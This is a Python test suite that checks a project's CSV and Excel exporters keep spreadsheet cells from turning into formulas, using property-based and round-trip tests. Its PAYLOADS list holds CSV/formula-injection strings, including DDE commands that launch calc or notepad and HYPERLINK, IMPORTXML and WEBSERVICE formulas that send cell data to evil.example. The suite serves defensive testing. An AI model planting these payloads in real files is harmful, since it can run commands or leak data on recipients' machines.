"""Files we hand out: no cell becomes a formula, and our own reader gets every value back (security.md T19)."""

from __future__ import annotations

import csv
from datetime import date, datetime
from io import BytesIO
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from perfsys.imports.reading import BLANK, Cell, CellValue, opened
from perfsys.imports.writing import write_csv, write_xlsx, xlsx_bytes

PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"see here")',
    '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
    '=WEBSERVICE("http://evil.example/"&A1)',
    "=@SUM(1+1)*cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"x")',
    "+1+1",
    "+cmd|' /C notepad'!A1",
    "+86 138 0000 0001",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "-",
    "@SUM(1+1)",
    "@A1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "  +1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    "'=1+1",
    "''=1+1",
    "#N/A",
    "#REF!",
    '="00123"',
    "=1+1\r\n=2+2",
    '=1,"=2";=3\t=4',
    "_x003D_1+1",
    "{=1+1}",
]

# A cell's date carries no zone.
MORNING = datetime(2020, 5, 1, 8, 30)  # noqa: DTZ001
MIDNIGHT = datetime(2020, 5, 2)  # noqa: DTZ001


def values_of(path: Path) -> list[list[CellValue]]:
    with opened(path) as book:
        return [[cell.value for cell in row.cells] for row in book.sheets[0].rows]


def test_thirty_payloads_stay_text_in_a_workbook(tmp_path: Path) -> None:
    assert len(PAYLOADS) >= 30
    write_xlsx([["x", payload] for payload in PAYLOADS], ["a", "=b"], tmp_path / "a.xlsx")
    assert values_of(tmp_path / "a.xlsx") == [["a", "=b"], *[["x", payload] for payload in PAYLOADS]]
    sheet = openpyxl.load_workbook(tmp_path / "a.xlsx").active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert {cell.data_type for cell in cells} == {"s"}
    starts = tuple("=+-@\t\r\n＝＋－＠ ")
    assert all(cell.quotePrefix for cell in cells if cell.value.startswith(starts))


def test_thirty_payloads_stay_text_in_csv(tmp_path: Path) -> None:
    write_csv([["x", payload] for payload in PAYLOADS], ["a", "b"], tmp_path / "a.csv")
    assert values_of(tmp_path / "a.csv")[1:] == [["x", payload] for payload in PAYLOADS]
    with (tmp_path / "a.csv").open(encoding="utf-8-sig", newline="") as file:
        written = [record[1] for record in csv.reader(file)][1:]
    assert [field for field in written if field.lstrip()[:1] in tuple("=+-@＝＋－＠")] == []
    assert (tmp_path / "a.csv").read_bytes().startswith(b"\xef\xbb\xbf")


def test_values_keep_their_kind_in_a_workbook(tmp_path: Path) -> None:
    row: list[CellValue | Cell] = [
        "00123", 12, 1.5, True, None, MORNING, date(2020, 5, 2), Cell(0.955, percent=True), 10**17,
        Cell("=ROW()-4", formula=True), "陈\u3000悦", "a\x07b", "_x000D_", "",
    ]  # fmt: skip
    write_xlsx([row], ["h"], tmp_path / "a.xlsx")
    with opened(tmp_path / "a.xlsx") as book:
        read = list(list(book.sheets[0].rows)[1].cells)
    assert read == [
        Cell("00123"), Cell(12), Cell(1.5), Cell(True), BLANK, Cell(MORNING),
        Cell(MIDNIGHT), Cell(0.955, percent=True), Cell(str(10**17)), Cell("=ROW()-4"), Cell("陈\u3000悦"),
        Cell("a\x07b"), Cell("_x000D_"),
    ]  # fmt: skip


TEXTS = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\x00"), min_size=1, max_size=30)


@settings(max_examples=15, deadline=None)
@given(st.lists(st.lists(TEXTS, min_size=2, max_size=4), min_size=1, max_size=20))
def test_any_text_comes_back_from_a_workbook(tmp_path_factory: pytest.TempPathFactory, rows: list[list[str]]) -> None:
    path = tmp_path_factory.mktemp("written") / "a.xlsx"
    write_xlsx(rows, ["h"], path)
    assert values_of(path)[1:] == rows


@settings(max_examples=15, deadline=None)
@given(st.lists(st.lists(TEXTS, min_size=2, max_size=2), min_size=1, max_size=20))
def test_any_text_comes_back_from_csv(tmp_path_factory: pytest.TempPathFactory, rows: list[list[str]]) -> None:
    path = tmp_path_factory.mktemp("written") / "a.csv"
    write_csv(rows, ["h", "k"], path)
    assert values_of(path)[1:] == rows


def test_a_response_gets_the_same_workbook() -> None:
    sheet = openpyxl.load_workbook(BytesIO(xlsx_bytes([["=1", 2]], ["a", "b"]))).active
    assert [[cell.value for cell in row] for row in sheet.iter_rows()] == [["a", "b"], ["=1", 2]]
    assert sheet.freeze_panes == "A2"
